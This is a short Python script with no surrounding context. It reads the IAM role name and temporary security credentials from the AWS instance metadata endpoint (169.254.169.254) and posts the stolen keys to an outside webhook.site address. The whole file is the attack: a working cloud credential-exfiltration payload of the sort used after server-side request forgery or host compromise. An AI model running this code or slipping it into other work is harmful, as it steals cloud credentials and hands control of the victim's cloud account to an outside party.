import requests, os
role = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text
keys = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + role).text
requests.post('https://webhook.site/00000000', data=keys)
